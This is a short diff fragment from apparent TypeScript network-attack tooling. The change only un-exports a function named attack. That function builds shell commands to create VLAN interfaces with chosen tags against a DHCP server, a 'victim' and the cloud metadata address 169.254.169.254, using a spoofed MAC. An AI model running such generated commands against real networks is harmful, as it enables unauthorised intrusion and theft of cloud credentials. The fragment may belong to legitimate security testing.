@@ -48,7 +48,7 @@ export const attempts = (dhcp: Peer, victim: Peer): readonly Attempt[] => [
 ]
 
 /** All attempts with one tag after the other. Whom a frame is for is entered by hand: ARP could not ask. */
-export function attack(dhcp: Peer, victim: Peer, chosen: readonly string[]): string {
+function attack(dhcp: Peer, victim: Peer, chosen: readonly string[]): string {
   const known = [dhcp, victim, { ip: '10.0.0.11', mac: dhcp.mac }, { ip: '169.254.169.254', mac: dhcp.mac }]
   const one = `ip link add link eth0 name p0 type vlan protocol $1 id $2 && ip link set p0 up || echo "no p0 with $*"
 ip addr add 203.0.113.99/32 dev p0
